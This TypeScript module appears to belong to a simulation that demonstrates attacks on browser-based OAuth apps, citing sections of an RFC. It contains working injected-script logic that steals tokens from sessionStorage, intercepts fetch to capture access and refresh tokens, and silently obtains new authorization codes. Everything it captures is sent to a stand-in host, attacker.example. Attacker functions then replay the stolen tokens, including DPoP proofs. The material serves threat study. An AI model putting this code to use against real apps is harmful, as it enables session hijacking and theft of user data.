/** The attacker: a script that got into the app's page, and what is done elsewhere with what it sends (RFC 10017 §5.1). */
import { base64url } from 'jose'
import { type HttpHandler, json, parseForm } from '../../http/index.ts'
import { createKey, signProof } from '../../scenario-kit/client-code/dpop-proof.ts'
import type { OwnComputer } from '../../scenario-kit/parties/thief.ts'
import type { TabGlobals } from '../../simulation/index.ts'
import type { Access, ClientConfig } from './client.ts'

/** URL origin of the attacker. */
export const ATTACKER = 'https://attacker.example'

/** What the script gets hold of. */
export type Loot = Record<string, string>

/** What a script in the page can reach: no less than the app's own code. */
export interface InjectedScript extends Omit<TabGlobals, 'open'> {
  /** The page's `window`: whatever is put there, the app's code uses from then on. */
  readonly window: { fetch: TabGlobals['fetch'] }
  /** What `import('/app.js')` gives: the functions of the app. */
  readonly app: Access
  /** How the app, or its backend, is registered: it stands in the address bar at each sign-in. */
  readonly config: Pick<ClientConfig, 'authorization_endpoint' | 'client_id' | 'redirect_uri' | 'scope'>
  /** Opens a popup. */
  open(url: URL): void
  /** Looks at a frame or popup of the script until it shows a page of this origin, whose address every script of the origin reads. */
  landed(): Promise<URL>
}

async function send({ fetch }: Pick<TabGlobals, 'fetch'>, loot: Loot): Promise<void> {
  // #region injected-script
  await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams(loot) })
  // #endregion
}

/** A `fetch` that also tells what tokens pass through it, out and back (RFC 10017 §8.4). */
function tapped({ fetch }: Pick<TabGlobals, 'fetch'>, tell: (loot: Loot) => Promise<void>): TabGlobals['fetch'] {
  // #region injected-script
  return async (input, init = {}) => {
    const [token_type = '', access_token = ''] = new Headers(init.headers).get('authorization')?.split(' ') ?? []
    if (access_token !== '') await tell({ access_token, token_type })
    const refresh_token = init.body instanceof URLSearchParams && init.body.get('refresh_token')
    if (refresh_token) await tell({ refresh_token })

    const response = await fetch(input, init)
    const body = await response.clone().json()
    const names = ['access_token', 'refresh_token', 'token_type'].filter((name) => name in body)
    if (names.length > 0) await tell(Object.fromEntries(names.map((name) => [name, body[name]])))
    return response
  }
  // #endregion
}

/** Single theft (RFC 10017 §5.1.1): takes the tokens that the app has now, wherever a script can get at them. */
export async function copyTokens({ app, sessionStorage, window }: InjectedScript): Promise<void> {
  // #region injected-script
  const { fetch } = window
  const loot: Loot = JSON.parse(sessionStorage.getItem('tokens') ?? '{}')
  if (loot.access_token === undefined) {
    // Nothing lies about. So the app is made to use its tokens, and told that they are over, so that it refreshes.
    let isFirst = true
    const listening = tapped({ fetch }, async (found) => void Object.assign(loot, found))
    const lying: TabGlobals['fetch'] = async (input, init) => {
      const response = await listening(input, init)
      const isCall = loot.access_token !== undefined && isFirst
      if (isCall) isFirst = false
      return isCall ? new Response(null, { status: 401 }) : response
    }
    window.fetch = lying
    await app.call('/photos')
    window.fetch = fetch
  }
  await send({ fetch }, loot)
  // #endregion
}

/** Persistent theft (RFC 10017 §5.1.2): sends what is stored, and from now on every new token that the app gets or uses. */
export async function followTokens({ sessionStorage, window }: InjectedScript): Promise<void> {
  // #region injected-script
  const { fetch } = window
  const loot: Loot = JSON.parse(sessionStorage.getItem('tokens') ?? '{}')
  await send({ fetch }, loot)
  window.fetch = tapped({ fetch }, async (found) => {
    const isKnown = Object.entries(found).every(([name, value]) => loot[name] === value)
    if (!isKnown) await send({ fetch }, Object.assign(loot, found))
  })
  // #endregion
}

/** New tokens (RFC 10017 §5.1.3): a sign-in of the script's own, for whoever is signed in at the server. */
export async function getCode(script: InjectedScript, place: 'frame' | 'popup'): Promise<void> {
  const { config, crypto, document, fetch } = script
  // #region new-code
  const code_verifier = base64url.encode(crypto.getRandomValues(new Uint8Array(32)))
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(code_verifier))
  const request = new URL(config.authorization_endpoint)
  request.search = new URLSearchParams({
    response_type: 'code',
    client_id: config.client_id,
    redirect_uri: config.redirect_uri,
    scope: config.scope,
    state: 'of-the-script',
    code_challenge: base64url.encode(new Uint8Array(digest)),
    code_challenge_method: 'S256',
    // No server shows a page in a frame. In a popup one may come, and people press Allow.
    ...(place === 'frame' && { prompt: 'none' }),
  }).toString()
  if (place === 'popup') script.open(request)
  else document.body.append(Object.assign(document.createElement('iframe'), { hidden: true, src: request.href }))
  const code = (await script.landed()).searchParams.get('code') ?? ''
  // #endregion
  await send({ fetch }, { code, code_verifier })
}

/** Through the browser (RFC 10017 §5.1.4): has the app call the API, and sends the answer away. */
export async function callAsApp({ app, fetch }: InjectedScript): Promise<void> {
  // #region injected-script
  const { body } = await app.call('/photos')
  await send({ fetch }, { data: JSON.stringify(body) })
  // #endregion
}

/** The attacker's server: keeps what scripts send. */
export function createAttacker(keep: (loot: Loot) => void): HttpHandler {
  return async ({ body }) => {
    keep(Object.fromEntries(parseForm(body)))
    // Any page may send: the injected script runs in somebody else’s.
    return json(200, {}, [['access-control-allow-origin', '*']])
  }
}

/** Reads the photos with a stolen access token (RFC 10017 §5.2.2). */
export async function readPhotos(own: OwnComputer, api: string, loot: Loot): Promise<string> {
  // #region stolen-call
  const { access_token = '', token_type = 'Bearer' } = loot
  if (access_token === '') return 'There is no token.'
  const url = `${api}/photos`
  const dpop = token_type === 'DPoP' && { dpop: await ownProof(own, { method: 'GET', url, access_token }) }
  const response = await own.fetch(url, { headers: { authorization: `${token_type} ${access_token}`, ...dpop } })
  return response.text()
  // #endregion
}

/** Gets tokens for a stolen code or refresh token, as the app would (RFC 10017 §5.2.1); they are added to the loot. */
export async function getTokens(
  own: OwnComputer,
  config: Pick<ClientConfig, 'token_endpoint' | 'client_id' | 'redirect_uri' | 'bindsTokens'>,
  loot: Loot,
): Promise<string> {
  // #region stolen-grant
  const { code = '', code_verifier = '', refresh_token = '' } = loot
  const { token_endpoint, client_id, redirect_uri } = config
  if (code === '' && refresh_token === '') return 'There is no code and no refresh token.'
  const grant: Record<string, string> =
    code === ''
      ? { grant_type: 'refresh_token', refresh_token }
      : { grant_type: 'authorization_code', code, code_verifier, redirect_uri }
  const response = await own.fetch(token_endpoint, {
    method: 'POST',
    headers: config.bindsTokens ? { dpop: await ownProof(own, { method: 'POST', url: token_endpoint }) } : {},
    body: new URLSearchParams({ ...grant, client_id }),
  })
  const body = await response.json()
  if (!response.ok) return body.error
  const { access_token, token_type } = body
  Object.assign(loot, { access_token, token_type, refresh_token: body.refresh_token ?? refresh_token, code: '' })
  return 'There are new tokens.'
  // #endregion
}

async function ownProof(own: OwnComputer, target: Parameters<typeof signProof>[1]): Promise<string> {
  if ((await own.idb.get('dpop-key')) === undefined) await createKey(own)
  return signProof(own, target)
}
